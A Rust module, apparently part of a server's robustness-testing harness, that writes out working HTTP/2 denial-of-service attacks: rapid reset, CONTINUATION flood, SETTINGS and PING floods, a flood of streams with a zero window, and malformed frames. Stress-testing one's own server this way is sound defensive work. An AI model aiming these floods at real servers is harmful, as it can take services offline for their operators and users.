//! Attacks in HTTP/2.

use std::net::SocketAddr;
use std::time::Duration;

use fastrand::Rng;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::bytes::talk;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame, head, literal, opening,
};
use crate::Result;

/// SETTINGS_INITIAL_WINDOW_SIZE, and a size that is the usual one.
const WINDOW: u16 = 4;
const USUAL: u32 = 65_535;

pub(super) async fn preface_then_garbage(to: SocketAddr, rng: &mut Rng) -> Result<()> {
    let mut bytes = if rng.bool() { PREFACE.to_vec() } else { opening(WINDOW, USUAL) };
    let length = rng.usize(1..20_000);
    bytes.extend(std::iter::repeat_with(|| rng.u8(..)).take(length));
    talk(to, &bytes).await.map(drop)
}

/// Five hundred streams, each reset before it can be answered.
pub(super) async fn rapid_reset(to: SocketAddr) -> Result<()> {
    let mut bytes = opening(WINDOW, USUAL);
    for number in 0..500 {
        let stream = 2 * number + 1;
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("/fast")));
        bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    talk(to, &bytes).await.map(drop)
}

/// A head of two thousand frames with a header each, and no end; or of empty frames.
pub(super) async fn continuation_flood(to: SocketAddr, rng: &mut Rng) -> Result<()> {
    let mut bytes = opening(WINDOW, USUAL);
    bytes.extend(frame(HEADERS, END_STREAM, 1, &head("/fast")));
    let header = if rng.bool() { Vec::new() } else { literal("x-long", &"y".repeat(120)).repeat(8) };
    for _ in 0..2000 {
        bytes.extend(frame(CONTINUATION, 0, 1, &header));
    }
    talk(to, &bytes).await.map(drop)
}

pub(super) async fn settings_flood(to: SocketAddr) -> Result<()> {
    flood(to, &frame(SETTINGS, 0, 0, &[])).await
}

pub(super) async fn ping_flood(to: SocketAddr) -> Result<()> {
    flood(to, &frame(PING, 0, 0, &[7; 8])).await
}

/// Twenty thousand frames that each want an answer, of which none is read.
async fn flood(to: SocketAddr, frame: &[u8]) -> Result<()> {
    let mut stream = TcpStream::connect(to).await?;
    stream.write_all(&opening(WINDOW, USUAL)).await?;
    let many = frame.repeat(1000);
    for _ in 0..20 {
        stream.write_all(&many).await?;
    }
    sleep(Duration::from_millis(500)).await;
    Ok(())
}

/// One of several frames that no client may send.
pub(super) async fn wrong_frames(to: SocketAddr, rng: &mut Rng) -> Result<()> {
    let most = 0x7fff_ffff_u32.to_be_bytes();
    let bad = [
        frame(HEADERS, END_HEADERS | END_STREAM, 0, &head("/fast")),
        frame(HEADERS, END_HEADERS | END_STREAM, 2, &head("/fast")),
        frame(DATA, END_STREAM, 1, b"no head before it"),
        frame(WINDOW_UPDATE, 0, 0, &most).repeat(2),
        frame(WINDOW_UPDATE, 0, 0, &[0; 4]),
        frame(SETTINGS, 0, 0, &[0; 5]),
        frame(PING, 0, 1, &[0; 8]),
        frame(CONTINUATION, END_HEADERS, 1, &head("/fast")),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, &[0xff; 40]),
        frame(DATA, 0, 1, &vec![0; 100_000]),
        frame(5, END_HEADERS, 1, &head("/fast")),
    ];
    let bytes = [opening(WINDOW, USUAL), bad[rng.usize(..bad.len())].clone()].concat();
    talk(to, &bytes).await.map(drop)
}

/// A thousand streams, of whose answers not one byte of body may be sent.
pub(super) async fn stream_flood(to: SocketAddr) -> Result<()> {
    let mut bytes = opening(WINDOW, 0);
    for number in 0..1000 {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &head("/fast")));
    }
    talk(to, &bytes).await.map(drop)
}
